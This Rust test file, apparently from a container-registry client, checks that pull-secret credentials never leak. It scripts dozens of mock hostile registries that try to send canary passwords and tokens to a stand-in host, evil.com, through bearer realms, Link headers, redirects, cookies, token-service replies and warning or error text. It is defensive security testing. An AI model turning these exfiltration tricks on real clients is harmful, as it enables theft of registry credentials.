//! Marked credentials, and registries that try to get them out: to another host, into a log, a metric or an error.

use std::{
    io::Write,
    sync::{Arc, Mutex},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use kimup_testbed::{FaultReply, FaultRequest, FaultServer};
use tracing::subscriber::DefaultGuard;
use tracing_subscriber::{fmt::MakeWriter, util::SubscriberInitExt as _};

use super::super::{Keyring, PullSecret};
use super::world::{PUBLIC, World, bearer, challenge, link, page, redirect, request, status, tags, token};

const OURS: &str = "registry.example.com";
const PASSWORD: &str = "Canary+7f3a9b/Password";
const IDENTITY: &str = "Canary-7f3a9b-Identity";
const TOKEN: &str = "Canary-7f3a9b-Token";

fn basic() -> String {
    format!("Basic {}", STANDARD.encode(format!("alice:{PASSWORD}")))
}

/// What must not be found anywhere, in lower case: host names are.
fn marks() -> Vec<String> {
    let encoded = |text: &str| url::form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let base64 = STANDARD.encode(format!("alice:{PASSWORD}"));
    let marks =
        [PASSWORD.to_owned(), encoded(PASSWORD), encoded(&base64), base64, IDENTITY.to_owned(), TOKEN.to_owned()];
    marks.map(|mark| mark.to_ascii_lowercase()).to_vec()
}

/// All log lines of this thread, of every crate and level.
#[derive(Clone, Default)]
pub(super) struct Capture(pub(super) Arc<Mutex<Vec<u8>>>);

impl Write for Capture {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for Capture {
    type Writer = Self;

    fn make_writer(&'a self) -> Self {
        self.clone()
    }
}

/// Captures until the guard is dropped. Always every level: the first one is what the `log` crate keeps for the process.
///
/// The second subscriber is never written to. With one alone, a place that logs and is first reached by the thread of another
/// test is switched off for all (tracing asks that thread's subscriber only).
pub(super) fn capture() -> (Capture, (DefaultGuard, tracing::Dispatch)) {
    let log = Capture::default();
    let lines = || tracing_subscriber::fmt().with_max_level(tracing::Level::TRACE).with_ansi(false);
    let idle = tracing::Dispatch::new(lines().with_writer(std::io::sink).finish());
    (log.clone(), (lines().with_writer(log).finish().set_default(), idle))
}

type Script = Arc<dyn Fn(&FaultRequest) -> FaultReply + Send + Sync>;

/// What a registry does once it has the credentials, or instead of asking for them.
struct Attack {
    name: &'static str,
    registry: Script,
    /// The token service in the registry's domain, which may have the credentials too.
    auth: Script,
    evil: Script,
}

impl Attack {
    fn new(name: &'static str, registry: impl Fn(&FaultRequest) -> FaultReply + Send + Sync + 'static) -> Self {
        Self {
            name,
            registry: Arc::new(registry),
            auth: Arc::new(|_| token(TOKEN)),
            evil: Arc::new(|seen| match seen.path() {
                "/token" => token("evil"),
                _ => tags(&["1"]),
            }),
        }
    }

    /// Asks for Basic credentials, then does this with them.
    fn with_basic(name: &'static str, then: fn(&str) -> FaultReply) -> Self {
        Self::new(name, move |seen| match seen.authorization() {
            "" => challenge("Basic"),
            stolen => then(stolen.trim_start_matches("Basic ")),
        })
    }

    /// Asks for a token of its token service, then does this with it.
    fn with_token(name: &'static str, then: fn(&str) -> FaultReply) -> Self {
        Self::new(name, move |seen| match seen.authorization() {
            "" => bearer("https://auth.example.com/token"),
            stolen => then(stolen.trim_start_matches("Bearer ")),
        })
    }

    fn auth(self, auth: impl Fn(&FaultRequest) -> FaultReply + Send + Sync + 'static) -> Self {
        Self { auth: Arc::new(auth), ..self }
    }

    fn evil(self, evil: impl Fn(&FaultRequest) -> FaultReply + Send + Sync + 'static) -> Self {
        Self { evil: Arc::new(evil), ..self }
    }
}

/// Text in a header's value, whatever it is.
fn escaped(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

fn attacks() -> Vec<Attack> {
    [by_realm(), by_link(), by_redirect(), by_token_service(), by_text()].into_iter().flatten().collect()
}

fn by_realm() -> Vec<Attack> {
    vec![
        Attack::new("realm elsewhere", |_| bearer("https://evil.com/token")),
        Attack::new("realm over http", |_| bearer("http://plain.evil.com/token")),
        Attack::new("realm on the registry over http", |_| bearer("http://registry.example.com/token")),
        Attack::new("realm with a user", |_| bearer("https://auth.example.com@evil.com/token")),
        Attack::new("realm with a backslash", |_| bearer(r"https://evil.com\@auth.example.com/token")),
        Attack::new("realm with the registry's name in front", |_| {
            bearer("https://registry.example.com.evil.com/token")
        }),
        Attack::new("known token host of another registry", |_| bearer("https://auth.docker.io/token")),
        Attack::with_basic("another realm after Basic", |_| bearer("https://evil.com/token")),
        Attack::with_basic("realm with the credentials in its query", |stolen| {
            bearer(&format!("https://evil.com/token?x={}", escaped(stolen)))
        }),
        Attack::with_basic("realm with the credentials in its host", |stolen| {
            bearer(&format!("https://{}.example.com/token", stolen.trim_end_matches('=')))
        }),
        Attack::with_token("another realm after a token", |stolen| bearer(&format!("https://evil.com/{stolen}"))),
    ]
}

fn by_link() -> Vec<Attack> {
    vec![
        Attack::with_basic("link elsewhere", |_| link("<https://evil.com/v2/team/app/tags/list>; rel=next", &["1"])),
        Attack::with_basic("link without scheme", |_| link("<//evil.com/v2/team/app/tags/list>; rel=next", &["1"])),
        Attack::with_basic("link over http", |_| {
            link("<http://plain.evil.com/v2/team/app/tags/list>; rel=next", &["1"])
        }),
        Attack::with_basic("link with a user", |_| link("<https://registry.example.com@evil.com/>; rel=next", &["1"])),
        Attack::with_basic("link with the credentials", |stolen| {
            link(&format!("<https://evil.com/{}>; rel=next", escaped(stolen)), &["1"])
        }),
        Attack::with_basic("broken link with the credentials", |stolen| link(&format!("<https://[{stolen}>"), &["1"])),
        Attack::with_basic("link to itself with the credentials", |stolen| {
            link(&format!("</v2/team/app/tags/list?last={}>; rel=next", escaped(stolen)), &["1"])
        }),
    ]
}

fn by_redirect() -> Vec<Attack> {
    vec![
        Attack::with_basic("redirect elsewhere", |_| redirect("https://evil.com/")),
        Attack::with_token("redirect elsewhere with a token", |_| redirect("https://evil.com/")),
        Attack::with_basic("redirect over http", |_| redirect("http://plain.evil.com/")),
        Attack::with_basic("redirect with a user", |stolen| {
            redirect(&format!("https://{}@evil.com/", escaped(stolen)))
        }),
        Attack::with_basic("redirect with the credentials in its query", |stolen| {
            redirect(&format!("https://evil.com/?x={stolen}"))
        }),
        Attack::with_basic("redirect with the credentials encoded", |stolen| {
            redirect(&format!("https://evil.com/{}", escaped(stolen)))
        }),
        Attack::with_basic("redirect with the password", |_| {
            redirect(&format!("https://evil.com/{}", escaped(PASSWORD)))
        }),
        Attack::with_basic("redirect with the credentials in its host", |stolen| {
            redirect(&format!("https://{}.evil.com/", stolen.trim_end_matches('=')))
        }),
        Attack::with_token("redirect with the token", |stolen| redirect(&format!("https://evil.com/?x={stolen}"))),
        Attack::with_basic("redirect to another port", |_| redirect("https://registry.example.com:444/")),
        Attack::with_basic("redirect to a challenge", |_| redirect("https://evil.com/")).evil(|_| challenge("Basic")),
        Attack::with_basic("redirect to a challenge for a token", |_| redirect("https://evil.com/"))
            .evil(|_| bearer("https://evil.com/token")),
        Attack::new("there and back", |seen| match (seen.path(), seen.authorization()) {
            ("/back", "") => redirect("https://evil.com/again"),
            (_, "") => challenge("Basic"),
            _ => redirect("https://evil.com/"),
        })
        .evil(|seen| {
            if seen.path() == "/" { redirect("https://registry.example.com/back") } else { challenge("Basic") }
        }),
        Attack::with_basic("cookies", |stolen| {
            redirect("https://evil.com/").header("set-cookie", &format!("x={stolen}; Domain=evil.com"))
        }),
        Attack::with_basic("other headers that lead away", |_| {
            tags(&["1"])
                .header("alt-svc", "h2=\"evil.com:443\"; ma=3600")
                .header("refresh", "0; url=https://evil.com/")
                .header("location", "https://evil.com/")
        }),
    ]
}

fn by_token_service() -> Vec<Attack> {
    vec![
        Attack::with_token("token service redirects", |_| tags(&["1"])).auth(|_| redirect("https://evil.com/token")),
        Attack::with_token("token service redirects with the credentials", |_| tags(&["1"]))
            .auth(|seen| redirect(&format!("https://evil.com/{}", escaped(seen.authorization())))),
        Attack::with_token("token service asks for another realm", |_| tags(&["1"]))
            .auth(|_| bearer("https://evil.com/token")),
        Attack::with_token("token service repeats the credentials", |_| tags(&["1"]))
            .auth(|seen| FaultReply::new(401, format!("no {} {}", seen.authorization(), PASSWORD))),
        Attack::with_token("token service sends rubbish", |_| tags(&["1"]))
            .auth(|seen| FaultReply::new(200, format!("{{\"token\":\"{}\\n{PASSWORD}\"}}", seen.authorization()))),
        Attack::with_token("token service warns", |_| tags(&["1"]))
            .auth(|seen| token(TOKEN).header("warning", &format!("299 - \"{}\"", seen.authorization()))),
    ]
}

/// The credentials in whatever might be shown.
fn by_text() -> Vec<Attack> {
    vec![
        Attack::with_basic("warning", |stolen| {
            tags(&["1"]).header("warning", &format!("299 - \"{stolen} {PASSWORD} {stolen}\""))
        }),
        Attack::with_token("warning with the token", |stolen| {
            tags(&["1"]).header("warning", &format!("299 - \"{stolen}\""))
        }),
        Attack::with_basic("error", |stolen| FaultReply::new(500, format!("{stolen} {PASSWORD}"))),
        Attack::with_basic("denial", |stolen| FaultReply::new(403, format!("{stolen} {PASSWORD}"))),
        Attack::with_basic("unknown", |stolen| FaultReply::new(404, format!("{stolen} {PASSWORD}"))),
        Attack::with_basic("no JSON", |stolen| FaultReply::new(200, format!("{{\"{stolen}\":{PASSWORD}"))),
        Attack::with_basic("a tag that is none", |stolen| tags(&[stolen, &format!("{PASSWORD} x")])),
        Attack::with_basic("retry-after", |stolen| status(429).header("retry-after", stolen)),
        Attack::with_basic("challenge", |stolen| challenge(&format!("Bearer realm=\"{stolen}\", x={PASSWORD}"))),
        Attack::with_basic("challenge of a broken address", |stolen| bearer(&format!("https://[{stolen}]/"))),
        Attack::with_basic("broken redirect", |stolen| redirect(&format!("https://[{stolen}]/"))),
        Attack::with_basic("no HTTP", |stolen| FaultReply::raw(format!("HTTP/9.9 {stolen} {PASSWORD}\r\n\r\n"))),
        Attack::with_basic("status line", |stolen| {
            FaultReply::raw(format!("HTTP/1.1 418 {stolen}\r\ncontent-length: 0\r\n\r\n"))
        }),
        Attack::with_basic("content encoding", |stolen| {
            FaultReply::new(200, stolen).header("content-encoding", "gzip").header("x-echo", stolen)
        }),
        Attack::with_basic("second page", |stolen| {
            page("x", &["1"]).header("x-echo", stolen).header("warning", &format!("299 - \"{}\"", escaped(stolen)))
        }),
    ]
}

/// The hosts of all attacks, one attack at a time.
struct Stage {
    world: World,
    attack: Arc<Mutex<Attack>>,
    /// The registry and its token service, which may get the credentials.
    allowed: [FaultServer; 2],
    others: [FaultServer; 2],
}

impl Stage {
    async fn new() -> Self {
        let mut world = World::new();
        let attack = Arc::new(Mutex::new(Attack::new("none", |_| status(404))));
        let play = |role: fn(&Attack) -> &Script| {
            let attack = attack.clone();
            move |seen: &FaultRequest| {
                let script = role(&attack.lock().unwrap()).clone();
                script(seen)
            }
        };
        let registry = world.host(OURS, PUBLIC, play(|attack| &attack.registry)).await;
        let auth = world.host("auth.example.com", "203.0.113.2", play(|attack| &attack.auth)).await;
        let evil = world.host("evil.com", "203.0.113.66", play(|attack| &attack.evil)).await;
        let plain = FaultServer::http(|_| tags(&["1"])).await.unwrap();
        world.name("plain.evil.com", "203.0.113.67", plain.address());
        world.name("auth.docker.io", "203.0.113.68", evil.address());
        Self { world, attack, allowed: [registry, auth], others: [evil, plain] }
    }

    /// Runs one attack, on user and password or on an identity token: what was shown or went elsewhere, and whether
    /// those that may have the credentials got them.
    async fn run(&self, attack: Attack, identity: bool) -> (String, bool) {
        *self.attack.lock().unwrap() = attack;
        let before = self.allowed.iter().map(|host| host.received().len()).collect::<Vec<_>>();
        let mut wanted = request(OURS, &[]);
        wanted.keyring = keyring(identity);
        // Where texts of warnings are logged there is more to leave out.
        let client = self.world.client_of_one_user();
        let mut shown = Vec::new();
        // Twice: what was kept of the first time must not help either; then somebody without credentials.
        for wanted in [&wanted, &wanted, &request(OURS, &[])] {
            match client.list_tags(wanted).await {
                Ok(listing) => shown.push(format!("{} {}", listing.dropped, listing.requests)),
                Err(error) => shown.push(format!("{error} {error:?} {}", error.host())),
            }
        }
        shown.push(format!("{wanted:?} {}", self.world.metrics.encode()));
        for other in &self.others {
            shown.push(String::from_utf8_lossy(&other.received()).into_owned());
        }
        let theirs: Vec<u8> =
            self.allowed.iter().zip(before).flat_map(|(host, before)| host.received().split_off(before)).collect();
        let theirs = String::from_utf8_lossy(&theirs);
        (shown.join(" "), [basic().as_str(), IDENTITY, TOKEN].iter().any(|sent| theirs.contains(sent)))
    }
}

fn keyring(identity: bool) -> Keyring {
    let entry = if identity {
        serde_json::json!({ "auth": STANDARD.encode("alice:"), "identitytoken": IDENTITY })
    } else {
        serde_json::json!({ "username": "alice", "password": PASSWORD })
    };
    let config = serde_json::json!({ "auths": { OURS: entry } }).to_string();
    let data = [(".dockerconfigjson".to_owned(), config.into_bytes())].into();
    let secret = PullSecret { name: "pull", kind: "kubernetes.io/dockerconfigjson", data: &data };
    Keyring::from_secrets([secret]).unwrap()
}

#[tokio::test]
async fn no_credentials_get_out() {
    let (log, _guard) = capture();
    let (marks, stage) = (marks(), Stage::new().await);
    let (mut count, mut reached) = (0, 0);
    for identity in [false, true] {
        for attack in attacks() {
            log.0.lock().unwrap().clear();
            let name = attack.name;
            let (shown, sent) = stage.run(attack, identity).await;
            count += 1;
            reached += usize::from(sent);
            let logged = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
            assert!(logged.contains("listed tags") || logged.contains("listing tags failed"), "{logged}");
            assert!(logged.contains("TRACE") && logged.contains("hyper"), "the log is not all there: {logged}");
            for (place, text) in [("shown or sent", &shown), ("logged", &logged)] {
                let text = text.to_ascii_lowercase();
                let found = marks.iter().find_map(|mark| text.find(mark.as_str()));
                let around = found.map(|at| text.get(at.saturating_sub(300)..(at + 60).min(text.len())));
                assert_eq!(around, None, "{place} by {name:?} ({identity})");
            }
        }
    }
    assert!(count >= 100, "{count}");
    assert!(reached >= 50, "the credentials were in play in {reached} cases only");
}

/// It was sent the credentials in a listing that it denied, and repeats them before it is sent them again.
#[tokio::test]
async fn what_a_registry_remembers_is_not_told() {
    let (log, _guard) = capture();
    let mut world = World::new();
    let remembers = |_: &FaultRequest| {
        let warning = format!("299 - \"{PASSWORD} {} {IDENTITY}\"", basic());
        status(401).header("www-authenticate", "Digest realm=\"r\"").header("warning", &warning)
    };
    let registry = world.host(OURS, PUBLIC, remembers).await;
    let mut wanted = request(OURS, &[]);
    for (identity, marks) in [(false, vec![PASSWORD.to_owned(), basic()]), (true, vec![IDENTITY.to_owned()])] {
        log.0.lock().unwrap().clear();
        wanted.keyring = keyring(identity);
        world.client_of_one_user().list_tags(&wanted).await.unwrap_err();
        let logged = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
        assert!(logged.contains("the registry warns"), "{logged}");
        assert!(marks.iter().all(|mark| !logged.contains(mark)), "{logged}");
    }
    assert!(registry.authorizations().iter().all(String::is_empty), "nothing was sent");
}

#[tokio::test]
async fn row_33_warnings_are_logged_once() {
    let (log, _guard) = capture();
    let mut world = World::new();
    let warned = |seen: &FaultRequest| match seen.nth % 2 {
        0 => page("a", &["1"]).header("warning", r#"299 - "Old" "Sun, 06 Nov 1994 08:49:37 GMT""#),
        _ => tags(&["2"]).header("warning", r#"299 - "Old""#).header("warning", r#"299 - "Very old""#),
    };
    let _registry = world.host(OURS, PUBLIC, warned).await;
    // Who may see what others have sent is told no texts.
    for (client, times) in [(world.client_of_one_user(), 1), (world.client(), 0)] {
        log.0.lock().unwrap().clear();
        for _ in 0..3 {
            assert_eq!(client.list_tags(&request(OURS, &[])).await.unwrap().tags().collect::<Vec<_>>(), ["1", "2"]);
        }
        let logged = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
        let found = (logged.matches("\"Old\"").count(), logged.matches("\"Very old\"").count());
        assert_eq!(found, (times, times), "{logged}");
        assert_eq!(logged.lines().filter(|line| line.contains("WARN")).count(), 2, "{logged}");
    }
}
